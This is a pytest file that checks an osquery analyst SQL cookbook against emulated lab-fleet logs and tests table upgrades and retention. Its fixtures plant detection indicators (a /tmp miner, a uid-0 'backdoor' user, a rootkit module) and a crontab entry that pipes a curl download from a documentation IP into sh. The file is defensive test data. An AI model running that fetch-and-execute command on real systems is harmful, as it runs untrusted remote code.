"""Every query of docs/analysts.md's cookbook, run on both log stores against emulator data.

The cookbook is parsed out of the document (each ```sql block under a `### ` heading), so
the documented text is exactly what runs. A fleet of four lab hosts logs what an analyst
hunts for (a process from /tmp, a new listening port, a new user, an outdated osquery...);
each query must succeed on chdb and on ClickHouse 18.16, and return the rows that data
calls for. Hosts are named `lab-*` so rows other test modules left in the shared server
cannot satisfy an assertion.

The last tests cover what the guide says about upgrades and retention: tables an older
Quarry created gain the new columns (old rows included), and expired partitions are dropped.
"""

from __future__ import annotations

import os
import re
import time
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import orjson
import pytest
import zmq
from clickhouse_driver import Client

from ingest_service.clickhouse_server_store import client_url
from ingest_service.embedded_clickhouse_store import EmbeddedClickHouseStore
from ingest_service.host_inventory import COLUMNS as HOST_COLUMNS
from ingest_service.log_store import QueryResult
from ingest_service.schema import (
    apply_schema,
    drop_expired_partitions,
    expired_partitions,
    retention_days,
)
from protos.v1 import logs_pb2, logs_pb2_grpc
from quarry.runtime.clickhouse_sql import sql_string
from quarry.serving.grpc_runtime import sync_channel
from tests.emulator import log_records as records
from tests.test_ingest_pipeline import IngestProcess, query, run_ingest, send_batches

DOC = Path(__file__).resolve().parent.parent / "docs" / "analysts.md"
COOKBOOK_ENTRY = re.compile(r"^### (?P<title>.+?)\n.*?```sql\n(?P<sql>.*?)```", re.M | re.S)

DAY = 86400
NOW = int(time.time())
EARLIER = NOW - 3 * DAY  # before "the last day" of every cookbook query
CAMPAIGN = "lab-campaign-" + uuid.uuid4().hex[:8]
WEB1, WEB2, DB1, OLD1 = "lab-web-1", "lab-web-2", "lab-db-1", "lab-old-1"
PACK = "pack_incident-response_"


def cookbook() -> dict[str, str]:
    """Title -> SQL of every cookbook entry, with the campaign placeholder filled in."""
    text = DOC.read_text()
    cookbook_text = text[text.index("## Cookbook") :]
    return {
        match["title"]: match["sql"].replace("CAMPAIGN_ID", CAMPAIGN)
        for match in COOKBOOK_ENTRY.finditer(cookbook_text)
    }


# What the lab fleet logged: (host, received_at, kind, records).


def process(pid: int, name: str, path: str, on_disk: int = 1) -> dict:
    return {"pid": pid, "name": name, "path": path, "cmdline": path, "on_disk": on_disk}


def lab_fleet() -> list[tuple[str, int, int, list[dict]]]:
    event = records.event_records
    alice = {"username": "alice"}
    return [
        # First runs, three days ago: the baseline every "new" query compares against.
        *(
            (host, EARLIER, logs_pb2.RESULT, batch)
            for host in (WEB1, WEB2, DB1)
            for batch in (
                event(PACK + "listening_ports", host, EARLIER,
                      added=[{"port": 22, "path": "/usr/sbin/sshd", "protocol": 6}]),
                event(PACK + "users", host, EARLIER,
                      added=[{"username": "root", "uid": 0, "shell": "/bin/bash"}]),
                event(PACK + "deb_packages", host, EARLIER,
                      added=[{"name": "openssl", "version": "3.0.11"}]),
                event(PACK + "kernel_modules", host, EARLIER,
                      added=[{"name": "ext4", "status": "Live"}]),
                event(PACK + "crontab", host, EARLIER,
                      added=[{"command": "run-parts /etc/cron.daily", "path": "/etc/crontab"}]),
            )
        ),
        (OLD1, EARLIER, logs_pb2.RESULT,
         event(PACK + "processes", OLD1, EARLIER,
               added=[process(1, "systemd", "/usr/lib/systemd/systemd")])),
        (OLD1, EARLIER, logs_pb2.STATUS,
         [records.status_record(OLD1, EARLIER, "old host", version="5.7.0", all_strings=True)]),
        # Today.
        (WEB1, NOW, logs_pb2.RESULT, [
            *event("pack_osquery-monitoring_osquery_info", WEB1, NOW, decorations=alice,
                   added=[{"version": "5.23.1", "pid": 3521}]),
            *event(PACK + "processes", WEB1, NOW, decorations=alice, added=[
                process(4242, "xmrig", "/tmp/.x/xmrig"),
                process(811, "sshd", "/usr/sbin/sshd"),
            ]),
            *event(PACK + "listening_ports", WEB1, NOW, counter=1,
                   added=[{"port": 4444, "path": "/tmp/.x/xmrig", "protocol": 6}]),
            *event(PACK + "users", WEB1, NOW, counter=1,
                   added=[{"username": "backdoor", "uid": 0, "shell": "/bin/sh"}]),
            *event(PACK + "deb_packages", WEB1, NOW, counter=1,
                   added=[{"name": "netcat-openbsd", "version": "1.219"}]),
        ]),
        (WEB2, NOW, logs_pb2.RESULT, [
            *event("pack_osquery-monitoring_osquery_info", WEB2, NOW,
                   added=[{"version": "5.23.1", "pid": 912}]),
            *event(PACK + "processes", WEB2, NOW, added=[
                process(811, "sshd", "/usr/sbin/sshd"),
                process(6666, "kworkerd", "/dev/shm/kworkerd", on_disk=0),
            ]),
            *event(PACK + "crontab", WEB2, NOW, counter=1, added=[
                {"command": "curl -s http://203.0.113.9/x | sh", "path": "/etc/crontab"}
            ]),
        ]),
        (DB1, NOW, logs_pb2.RESULT, [
            *event("pack_osquery-monitoring_osquery_info", DB1, NOW,
                   added=[{"version": "5.9.1", "pid": 77}]),
            *event(PACK + "processes", DB1, NOW,
                   added=[process(811, "sshd", "/usr/sbin/sshd")]),
            *event(PACK + "kernel_modules", DB1, NOW, counter=1,
                   added=[{"name": "diamorphine", "status": "Live"}]),
        ]),
        # Two snapshots of mounts on lab-web-1: the latest adds /mnt/usb.
        (WEB1, NOW - 3600, logs_pb2.RESULT, [records.snapshot_record(
            "pack_baseline_mounts", WEB1, NOW - 3600, [{"path": "/"}, {"path": "/boot"}])]),
        (WEB1, NOW, logs_pb2.RESULT, [records.snapshot_record(
            "pack_baseline_mounts", WEB1, NOW, [{"path": "/"}, {"path": "/mnt/usb"}])]),
        (DB1, NOW, logs_pb2.STATUS, [
            records.status_record(DB1, NOW, "Error executing scheduled query",
                                  severity=records.SEVERITY_ERROR, version="5.9.1"),
            records.status_record(DB1, NOW, "Error executing scheduled query",
                                  severity=records.SEVERITY_ERROR, version="5.9.1"),
        ]),
        (WEB1, NOW, logs_pb2.STATUS, [
            records.status_record(WEB1, NOW, "Executing scheduled query",
                                  severity=records.SEVERITY_WARNING),
        ]),
        (WEB1, NOW, logs_pb2.DISTRIBUTED, [{"name": "sshd", "pid": "811"}]),
        (WEB2, NOW, logs_pb2.DISTRIBUTED, [{"name": "sshd", "pid": "811"},
                                           {"name": "kworkerd", "pid": "6666"}]),
        (WEB1, NOW, logs_pb2.DISTRIBUTED_STATUS, [
            {"campaign_id": CAMPAIGN, "status": 0, "message": "", "row_count": 1,
             "wall_time_ms": 5, "user_time": 2, "system_time": 1, "memory": 2048}]),
        (WEB2, NOW, logs_pb2.DISTRIBUTED_STATUS, [
            {"campaign_id": CAMPAIGN, "status": 0, "message": "", "row_count": 2,
             "wall_time_ms": 40, "user_time": 30, "system_time": 5, "memory": 8192}]),
        (DB1, NOW, logs_pb2.DISTRIBUTED_STATUS, [
            {"campaign_id": CAMPAIGN, "status": 1, "message": "no such table: x",
             "row_count": 0}]),
    ]  # fmt: skip


# quarry.hosts of the lab (what ingest writes from the services' feeds): (host, version,
# status, platform, os_version, tags, labels, last_seen). lab-web-1's first row is older
# (pending, untagged): the cookbook must read the table current.
IDLE1 = "lab-idle-1"
LAB_HOSTS = [
    (WEB1, 1, "pending", "ubuntu", "22.04.4 LTS (Jammy Jellyfish)", [], [], EARLIER),
    (WEB1, 2, "enrolled", "ubuntu", "22.04.4 LTS (Jammy Jellyfish)", ["prod", "web"],
     ["internet-facing"], NOW),
    (WEB2, 1, "enrolled", "ubuntu", "20.04.6 LTS (Focal Fossa)", ["prod", "web"],
     ["internet-facing"], NOW),
    (DB1, 1, "enrolled", "rhel", "9.3 (Plow)", ["db"], ["databases", "internet-facing"], NOW),
    (OLD1, 1, "revoked", "ubuntu", "22.04.4 LTS (Jammy Jellyfish)", ["prod"], [], EARLIER),
    (IDLE1, 1, "enrolled", "darwin", "14.5", [], [], EARLIER),
]  # fmt: skip


def sql_array(values: list[str]) -> str:
    return f"[{', '.join(sql_string(v) for v in values)}]" if values else "emptyArrayString()"


def lab_hosts_statements(table: str = "hosts") -> list[str]:
    """INSERT ... SELECT statements of LAB_HOSTS (18.16 takes no inline VALUES from the
    driver: ingest_service/clickhouse_server_store.py)."""
    statements = []
    for host, version, status, platform, os_version, tags, labels, last_seen in LAB_HOSTS:
        values = [
            sql_string(f"node-{host}"), sql_string(host), sql_string(f"{host}.example"),
            sql_string(platform), sql_string(os_version), "'5.12.1'", sql_array(tags),
            sql_array(labels), "'lab'", sql_string(status), f"toDateTime({EARLIER})",
            f"toDateTime({last_seen})", f"toDateTime({last_seen})", str(version),
        ]  # fmt: skip
        statements.append(
            f"INSERT INTO quarry.{table} ({', '.join(HOST_COLUMNS)}) SELECT {', '.join(values)}"
        )
    return statements


def lab_batch(host: str, received_at: int, kind: int, data: list[dict]) -> logs_pb2.LogBatch:
    return logs_pb2.LogBatch(
        batch_id=uuid.uuid4().hex,
        kind=kind,
        node_id=f"node-{host}",
        host_identifier=host,
        received_at=received_at,
        data_json=orjson.dumps(data),
        campaign_id=CAMPAIGN if kind == logs_pb2.DISTRIBUTED else "",
    )


LONG_AGO = NOW - 10 * DAY  # before "this week"


def host_query_batch(
    host: str, at: int, group: str, query: str, rows: list[dict], error: str = ""
) -> list[logs_pb2.LogBatch]:
    """What the gateway forwards for one scheduled host query's answer: rows, then status."""
    common = {"node_id": f"node-{host}", "host_identifier": host, "received_at": at}
    status = {"group": group, "query": query, "slot": at // 3600, "status": 1 if error else 0,
              "message": error, "row_count": len(rows)}  # fmt: skip
    batches = [
        logs_pb2.LogBatch(batch_id=uuid.uuid4().hex, kind=logs_pb2.HOST_QUERY_STATUS,
                          data_json=orjson.dumps([status]), **common)
    ]  # fmt: skip
    if rows:
        answer = {"group": group, "query": query, "slot": at // 3600, "rows": rows}
        batches.append(
            logs_pb2.LogBatch(batch_id=uuid.uuid4().hex, kind=logs_pb2.HOST_QUERY,
                              data_json=orjson.dumps([answer]), **common)
        )  # fmt: skip
    return batches


def package(name: str, version: str) -> dict:
    return {"name": name, "version": version, "detail": "amd64"}


def lab_host_queries() -> list[logs_pb2.LogBatch]:
    """Vitals and software answers: WEB1 upgraded its OS; openssl 3.0.2 is old news on WEB1
    and new on DB1; lab-tool is new this week; DB1 lacks memory_info; OLD1 went quiet."""

    def os_version(version: str) -> list[dict]:
        return [{"name": "Ubuntu", "version": version, "arch": "x86_64"}]

    answers = [
        (WEB1, LONG_AGO, "software", "deb_packages", [package("openssl", "3.0.2")], ""),
        (WEB1, NOW, "software", "deb_packages",
         [package("openssl", "3.0.2"), package("curl", "7.81.0")], ""),
        (WEB2, NOW, "software", "deb_packages", [package("openssl", "3.0.13")], ""),
        (DB1, NOW, "software", "deb_packages",
         [package("openssl", "3.0.2"), package("lab-tool", "1.0")], ""),
        (WEB1, EARLIER, "vitals", "os_version", os_version("20.04.6 LTS"), ""),
        (WEB1, NOW, "vitals", "os_version", os_version("22.04.4 LTS"), ""),
        (WEB1, NOW, "vitals", "osquery_info", [{"version": "5.23.1"}], ""),
        (WEB1, NOW, "vitals", "uptime", [{"total_seconds": "273906"}], ""),
        (DB1, NOW, "vitals", "os_version", os_version("22.04.4 LTS"), ""),
        (DB1, NOW, "vitals", "memory", [], "no such table: memory_info"),
        (OLD1, EARLIER, "vitals", "os_version", os_version("18.04.6 LTS"), ""),
    ]  # fmt: skip
    return [batch for answer in answers for batch in host_query_batch(*answer)]


@pytest.fixture(scope="module")
def lab(log_store_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[IngestProcess]:
    """An ingest process per backend that has stored the lab fleet's logs.

    The cookbook's fleet-wide queries (top talkers, rare names) must see only the lab, so
    on the shared session server the database starts empty; no other module's processes
    are running while this module's run.
    """
    if log_store_url:
        # Connect to `default`: on a fresh server the quarry database does not exist yet.
        client = Client.from_url(client_url(log_store_url, "default"))
        client.execute("DROP DATABASE IF EXISTS quarry")
        client.disconnect()
    with run_ingest(tmp_path_factory.mktemp("cookbook"), log_store_url) as ingest:
        dealer = zmq.Context.instance().socket(zmq.DEALER)
        dealer.setsockopt(zmq.LINGER, 0)
        dealer.connect(ingest.zmq_endpoint)
        try:
            batches = [lab_batch(*entry) for entry in lab_fleet()] + lab_host_queries()
            acks = send_batches(dealer, batches)
        finally:
            dealer.close()
        assert all(ack.ok for ack in acks), [ack.error for ack in acks if not ack.ok]
        for statement in lab_hosts_statements():
            write(ingest, statement)
        yield ingest


def write(ingest: IngestProcess, sql: str) -> None:
    """A statement that writes: with the root admin token (tests/conftest.py), as an admin's
    `quarry sql` would."""
    token = os.environ["QUARRY_ADMIN_TOKEN"]
    with sync_channel(ingest.grpc_addr, token, ingest.service.settings) as channel:
        response = logs_pb2_grpc.LogStoreStub(channel).Query(logs_pb2.SqlRequest(sql=sql))
    assert response.error == "", response.error


def run(ingest: IngestProcess, sql: str) -> list[list]:
    response = query(ingest, sql)
    assert response.error == "", response.error
    return [orjson.loads(row) for row in response.rows_json]


def lab_rows(rows: list[list]) -> list[list]:
    """Rows about lab hosts (first column a lab host name)."""
    return [row for row in rows if str(row[0]).startswith("lab-")]


def counts(rows: list[list]) -> dict[str, int]:
    """First column -> second column, for (key, count) answers."""
    return {row[0]: row[1] for row in rows}


# (title, check): each check gets the query's rows and asserts what the lab data implies.
EXPECTATIONS = {
    "Hosts not seen for a day": lambda rows: (
        [row[0] for row in lab_rows(rows)] == [OLD1] and lab_rows(rows)[0][2] == "node-lab-old-1"
    ),
    "New listening ports in the last day": lambda rows: (
        [row[:3] for row in lab_rows(rows)] == [[WEB1, "4444", "/tmp/.x/xmrig"]]
    ),
    "Processes running from /tmp": lambda rows: (
        [[row[0], row[2], row[3]] for row in lab_rows(rows)]
        == [[WEB1, "4242", "/tmp/.x/xmrig"], [WEB2, "6666", "/dev/shm/kworkerd"]]
    ),
    "Processes whose binary was deleted": lambda rows: (
        lab_rows(rows) == [[WEB2, "6666", "kworkerd", "/dev/shm/kworkerd"]]
    ),
    "Hosts on an outdated osquery version": lambda rows: lab_rows(rows) == [[DB1, "5.9.1"]],
    # Fleet-wide counts: other test modules' hosts may share the server, hence `>=`.
    "osquery versions across the fleet": lambda rows: (
        counts(rows)["5.23.1"] >= 1 and counts(rows)["5.9.1"] >= 1 and "5.7.0" not in counts(rows)
    ),
    "Software first seen in the fleet in the last day": lambda rows: (
        ["netcat-openbsd", 1] in [[row[0], row[2]] for row in rows]
        and all(row[0] != "openssl" for row in rows)
    ),
    "Which hosts run openssl 3.0.2": lambda rows: (
        [[row[0], row[1], row[2]] for row in lab_rows(rows)]
        == [[DB1, "deb_packages", "3.0.2"], [WEB1, "deb_packages", "3.0.2"]]
        # WEB1 has had it for ten days, DB1 since today.
        and lab_rows(rows)[1][3] < lab_rows(rows)[0][3]
    ),
    "Software new in the fleet this week": lambda rows: (
        ["lab-tool", "1.0", "deb_packages"] in [row[:3] for row in rows]
        and ["openssl", "3.0.13", "deb_packages"] in [row[:3] for row in rows]
        and all(row[:2] != ["openssl", "3.0.2"] for row in rows)
    ),
    "Latest vitals per host": lambda rows: (
        [row[:5] for row in lab_rows(rows)]
        == [
            [DB1, "Ubuntu", "22.04.4 LTS", "", ""],
            [OLD1, "Ubuntu", "18.04.6 LTS", "", ""],
            [WEB1, "Ubuntu", "22.04.4 LTS", "5.23.1", "273906"],
        ]
    ),
    "Hosts whose vitals are stale": lambda rows: [row[0] for row in lab_rows(rows)] == [OLD1],
    "Scheduled host queries failing per host": lambda rows: (
        [row[:4] for row in lab_rows(rows)]
        == [[DB1, "vitals", "memory", "no such table: memory_info"]]
    ),
    "Rare process names across the fleet": lambda rows: (
        ["xmrig", 1, WEB1] in rows
        and ["kworkerd", 1, WEB2] in rows
        and all(row[0] != "sshd" for row in rows)
    ),
    "Top talkers: hosts by rows logged in the last day": lambda rows: (
        [row[:3] for row in lab_rows(rows)] == [[WEB1, 10, 6], [WEB2, 4, 3], [DB1, 3, 3]]
    ),
    "osquery errors per host in the last day": lambda rows: (
        lab_rows(rows) == [[DB1, 2, "Error executing scheduled query"]]
    ),
    "Users added in the last day": lambda rows: (
        [[row[0], row[2], row[3], row[4]] for row in lab_rows(rows)]
        == [[WEB1, "backdoor", "0", "/bin/sh"]]
    ),
    "Kernel modules newly loaded": lambda rows: (
        [[row[0], row[2]] for row in lab_rows(rows)] == [[DB1, "diamorphine"]]
    ),
    "Cron entries added": lambda rows: (
        [[row[0], row[2]] for row in lab_rows(rows)]
        == [[WEB2, "curl -s http://203.0.113.9/x | sh"]]
    ),
    "Live query answers by campaign": lambda rows: (
        [row[1:] for row in rows]
        == [
            [WEB1, 0, ["name", "pid"], ["sshd", "811"]],
            [WEB2, 0, ["name", "pid"], ["sshd", "811"]],
            [WEB2, 1, ["name", "pid"], ["kworkerd", "6666"]],
        ]
    ),
    "Hosts that answered each live query": lambda rows: (
        [CAMPAIGN, 2, 3] in [row[:3] for row in rows]
    ),
    "Live query failures and slowest hosts": lambda rows: (
        rows
        == [
            [DB1, 1, "no such table: x", 0, 0, 0],
            [WEB2, 0, "", 2, 40, 8192],
            [WEB1, 0, "", 1, 5, 2048],
        ]
    ),
    "Latest snapshot of a query per host": lambda rows: (
        [[row[0], row[2]] for row in lab_rows(rows)] == [[WEB1, "/"], [WEB1, "/mnt/usb"]]
    ),
    "Snapshot diff: rows new in the latest snapshot": lambda rows: (
        [[row[0], row[2]] for row in lab_rows(rows)] == [[WEB1, "/mnt/usb"]]
    ),
    "Rows per query per day": lambda rows: any(
        row[1:3] == ["incident-response", "processes"] and row[3] >= 5 and row[4] >= 3
        for row in rows
    ),
    "Rows per pack in the last day": lambda rows: (
        ["baseline", 4, 1] in rows and counts(rows)["osquery-monitoring"] >= 3
    ),
    "Processes from /tmp on hosts tagged prod running Ubuntu 22.04": lambda rows: (
        lab_rows(rows) == [[WEB1, f"{WEB1}.example", "4242", "/tmp/.x/xmrig"]]
    ),
    "osquery errors in the last day per label": lambda rows: (
        rows == [["databases", 2, 1], ["internet-facing", 2, 1]]
    ),
    "Rows logged in the last day per platform and OS version": lambda rows: (
        rows
        == [
            ["ubuntu", "22.04.4 LTS (Jammy Jellyfish)", 10, 1],
            ["ubuntu", "20.04.6 LTS (Focal Fossa)", 4, 1],
            ["rhel", "9.3 (Plow)", 3, 1],
        ]
    ),
    # DB1 is internet-facing too; WEB2 runs 3.0.13.
    "openssl 3.0.2 on internet-facing hosts": lambda rows: (
        [row[:3] for row in lab_rows(rows)] == [[DB1, "rhel", "3.0.2"], [WEB1, "ubuntu", "3.0.2"]]
    ),
    # OLD1 is tagged prod but revoked; WEB1's OS version is its latest answer's.
    "Vitals of enrolled hosts tagged prod": lambda rows: (
        lab_rows(rows) == [[WEB1, "ubuntu", "22.04.4 LTS", "5.23.1", "273906"]]
    ),
    "Enrolled hosts that have not checked in for a day": lambda rows: (
        [[row[0], row[2], row[4]] for row in lab_rows(rows)] == [[IDLE1, "darwin", []]]
    ),
    "Results of one decorator value": lambda rows: (
        counts(rows)["pack_incident-response_processes"] >= 2
        and counts(rows)["pack_osquery-monitoring_osquery_info"] >= 1
    ),
}


def test_the_cookbook_has_at_least_15_queries_all_with_expectations() -> None:
    titles = list(cookbook())
    assert len(titles) >= 15
    assert sorted(titles) == sorted(EXPECTATIONS)


@pytest.mark.parametrize("title", sorted(EXPECTATIONS))
def test_cookbook_query(lab: IngestProcess, title: str) -> None:
    rows = run(lab, cookbook()[title])
    assert EXPECTATIONS[title](rows), rows


def test_pack_and_query_are_split_from_the_name(lab: IngestProcess) -> None:
    rows = run(
        lab,
        "SELECT DISTINCT name, pack, query FROM quarry.results "
        f"WHERE host_identifier = '{WEB1}' AND pack != 'incident-response' ORDER BY name",
    )
    assert rows == [
        ["pack_baseline_mounts", "baseline", "mounts"],
        ["pack_osquery-monitoring_osquery_info", "osquery-monitoring", "osquery_info"],
    ]


# Upgrades and retention

# The results table as the first Quarry created it: monthly partitions, no pack/query.
FIRST_RESULTS_TABLE = """CREATE TABLE {database}.results (
    name String, host_identifier String, unix_time DateTime, calendar_time String,
    action String, column_names Array(String), column_values Array(String),
    decoration_names Array(String), decoration_values Array(String), epoch UInt64,
    counter UInt64, numerics UInt8, node_id String, received_at DateTime, batch_id String
)
ENGINE = MergeTree PARTITION BY toYYYYMM(received_at) ORDER BY (name, host_identifier, unix_time)"""
OLD_ROWS = [
    # January 2025: long past any retention.
    ("pack_incident-response_listening_ports", datetime(2025, 1, 5, tzinfo=UTC)),
    ("processes", datetime.now(UTC).replace(microsecond=0)),
]
RETENTION = {
    "results": 30,
    "status_logs": 30,
    "distributed_results": 90,
    "distributed_status": 90,
    "raw_batches": 7,
    "host_query_rows": 30,
    "host_query_status": 30,
    "alerts": 365,
}


class SqlRunner:
    """A store-like `query` over any run-SQL function, for drop_expired_partitions."""

    def __init__(self, run: Callable[[str], list]) -> None:
        self.run = run

    def query(self, sql: str) -> QueryResult:
        return QueryResult(columns=[], types=[], rows=[list(row) for row in self.run(sql)])


def check_upgrade(run: Callable[[str], list], database: str, modern: bool) -> None:
    """Schema upgrade of a first-generation table with OLD_ROWS in it, then retention."""
    apply_schema(run, database, modern, RETENTION)
    apply_schema(run, database, modern, RETENTION)  # again: nothing left to do, no error

    rows = run(f"SELECT name, pack, query FROM {database}.results ORDER BY name")
    assert [list(row) for row in rows] == [
        ["pack_incident-response_listening_ports", "incident-response", "listening_ports"],
        ["processes", "", "processes"],
    ]
    seen = run(f"SELECT host_identifier FROM {database}.host_last_seen")
    assert [list(row) for row in seen] == [["lab-old-1"]]
    engine = run(f"SELECT engine_full FROM system.tables WHERE database = '{database}' "
                 "AND name = 'results'")[0][0]  # fmt: skip
    assert ("TTL stored_at + toIntervalDay(30)" in engine) == modern

    dropped = drop_expired_partitions(SqlRunner(run), RETENTION, database=database)
    assert dropped == [("results", "202501")]
    rows = run(f"SELECT name FROM {database}.results")
    assert [list(row) for row in rows] == [["processes"]]


def test_an_old_results_table_is_upgraded_on_clickhouse_server(clickhouse_url: str) -> None:
    database = f"quarry_upgrade_{uuid.uuid4().hex[:8]}"
    client = Client.from_url(clickhouse_url.rsplit("/", 1)[0] + "/default")
    try:
        client.execute(f"CREATE DATABASE {database}")
        client.execute(FIRST_RESULTS_TABLE.format(database=database))
        client.execute(
            f"INSERT INTO {database}.results (name, host_identifier, received_at) VALUES",
            [{"name": name, "host_identifier": "lab-old-1", "received_at": at}
             for name, at in OLD_ROWS],
        )  # fmt: skip
        version = client.execute("SELECT version()")[0][0]
        check_upgrade(client.execute, database, modern=int(version.split(".")[0]) >= 23)
    finally:
        client.execute(f"DROP DATABASE IF EXISTS {database}")
        client.disconnect()


def test_an_old_results_table_is_upgraded_on_chdb(tmp_path: Path) -> None:
    store = EmbeddedClickHouseStore(tmp_path / "chdb")
    try:
        store.run_rows("CREATE DATABASE quarry")
        store.run_rows(FIRST_RESULTS_TABLE.format(database="quarry"))
        values = ", ".join(
            f"('{name}', 'lab-old-1', {int(at.timestamp())})" for name, at in OLD_ROWS
        )
        store.run_rows(
            f"INSERT INTO quarry.results (name, host_identifier, received_at) VALUES {values}"
        )
        check_upgrade(store.run_rows, "quarry", modern=True)
    finally:
        store.close()


def test_retention_days_come_from_the_environment() -> None:
    assert retention_days({}) == RETENTION
    assert retention_days({"QUARRY_RETENTION_RESULTS_DAYS": "7"})["results"] == 7
    assert retention_days({"QUARRY_RETENTION_STATUS_LOGS_DAYS": "0"})["status_logs"] == 0
    with pytest.raises(ValueError, match="QUARRY_RETENTION_RESULTS_DAYS"):
        retention_days({"QUARRY_RETENTION_RESULTS_DAYS": "a week"})


def test_a_partition_expires_once_all_its_days_are_past_the_retention() -> None:
    partitions = [
        ("results", "20261026"),  # 31 days before 2026-11-26: expired
        ("results", "20261027"),  # 30 days: kept
        ("results", "202609"),  # a whole month, before Oct 27: expired
        ("results", "202610"),  # holds Oct 27..31: kept
        ("distributed_results", "20261026"),  # 90 days' retention: kept
        ("status_logs", "20200101"),
    ]
    days = {"results": 30, "distributed_results": 90, "status_logs": 0}  # 0: for ever

    assert expired_partitions(partitions, days, date(2026, 11, 26)) == [
        ("results", "202609"),
        ("results", "20261026"),
    ]
